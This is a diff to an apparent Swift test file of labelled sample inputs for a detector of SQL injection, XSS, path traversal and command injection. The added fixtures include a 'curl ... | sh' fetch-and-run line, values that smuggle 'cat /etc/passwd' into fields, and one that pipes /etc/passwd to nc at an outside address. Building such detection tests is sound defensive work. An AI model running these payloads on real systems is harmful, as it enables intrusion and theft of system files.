@@ -24,6 +24,9 @@ import Testing
     ##"{"commits":[{"message":"escape <script> in comments"},{"message":"say why"}]}"##,
     ##"{"path":"../assets/img/logo.png","href":"../../docs/index.html"}"##,
     ##"{"template":"Hello {{user.name}}, your order {{order.id}} is ${order.state}"}"##,
+    ##"{"text":"ls -la /srv | grep conf"}"##,
+    ##"{"channel":"ops","text":"curl -s http://x.example/health | sh; cat /etc/hosts"}"##,
+    ##"{"msg":"$ cat access.log | sort | uniq -c; whoami"}"##,
     ##"{"text":"To list users run `cat /etc/passwd | cut -d: -f1`"}"##,
   ]
 
@@ -36,6 +39,9 @@ import Testing
     (##"{"id":"x'; drop table users"}"##, "sqli"),
     (##"{"comment":"<b>hi</b><script src=//203.0.113.9/x.js></script>"}"##, "xss"),
     (##"{"comment":"hello <script> alert(document.cookie)"}"##, "xss"),
+    (##"{"host":"8.8.8.8; cat /etc/passwd"}"##, "command-injection"),
+    (##"{"cmd":"ls -la; cat /etc/passwd"}"##, "command-injection"),
+    (##"{"text":"x; ls -la; cat /etc/passwd | nc 203.0.113.9 9"}"##, "command-injection"),
     (##"{"path":"../../../../etc/passwd"}"##, "traversal"),
   ]
 
